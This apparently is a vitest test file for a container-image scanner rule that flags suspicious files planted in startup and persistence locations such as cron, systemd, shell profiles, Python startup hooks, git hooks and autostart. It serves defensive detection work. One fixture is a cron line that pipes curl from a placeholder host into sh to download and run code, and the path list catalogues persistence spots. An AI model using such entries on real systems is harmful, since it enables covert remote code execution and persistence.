import { createHash } from 'node:crypto';
import { expect, it } from 'vitest';
import { imageFiles, type TestFile } from '../../../test/detect/image-files.ts';
import { checkPlanted } from './planted.ts';

const bad = createHash('sha256').update('BAD').digest('hex');

/** `BAD` in a file stands for something that was found in it. */
const finds = (...layers: Readonly<Record<string, TestFile>>[]) => {
  const { files, factsOf, sha256Of } = imageFiles(layers);
  return checkPlanted(
    files,
    (content) => sha256Of(content) === bad,
    (content) => factsOf(content)?.script ?? null,
  ).map(({ ruleId, detail }) => `${ruleId}: ${detail}`);
};

it.each([
  ['etc/cron.d/update', 'cron'],
  ['var/spool/cron/crontabs/root', 'cron'],
  ['usr/lib/systemd/system/a.timer', 'systemd'],
  ['root/.config/systemd/user/a.service', 'systemd'],
  ['etc/init.d/a', 'init'],
  ['etc/rc.local', 'init'],
  ['docker-entrypoint.d/10-a.sh', 'init'],
  ['etc/profile.d/a.sh', 'a login shell'],
  ['home/user/.bashrc', 'a login shell'],
  ['usr/lib/python3/dist-packages/sitecustomize.py', 'Python'],
  ['opt/venv/lib/python3.11/site-packages/a.pth', 'Python'],
  ['opt/conda/etc/conda/activate.d/a.sh', 'conda'],
  ['root/.ipython/profile_default/startup/00.py', 'Jupyter'],
  ['root/.jupyter/jupyter_server_config.py', 'Jupyter'],
  ['usr/share/git-core/templates/hooks/post-checkout', 'git'],
  ['etc/udev/rules.d/9.rules', 'udev'],
  ['etc/apt/apt.conf.d/99a', 'apt'],
  ['etc/xdg/autostart/a.desktop', 'a desktop'],
])('names what was found in /%s, which %s starts', (path, what) => {
  expect(finds({ [path]: 'BAD' })).toEqual([`startup/planted: ${what} starts /${path}`]);
  expect(finds({ [path]: 'an ordinary one' })).toEqual([]);
});

it('names what downloads and runs there, too', () => {
  expect(finds({ 'etc/cron.d/a': '* * * * * root curl -s https://host.invalid/a | sh\n' })).toHaveLength(1);
  expect(finds({ 'etc/cron.d/a': '* * * * * root curl -s https://host.invalid/health\n' })).toEqual([]);
});

it('says nothing of what is found elsewhere, or gone', () => {
  expect(finds({ 'opt/a.sh': 'BAD' })).toEqual([]);
  expect(finds({ 'etc/cron.d/a': 'BAD' }, { 'etc/cron.d/a': null })).toEqual([]);
});
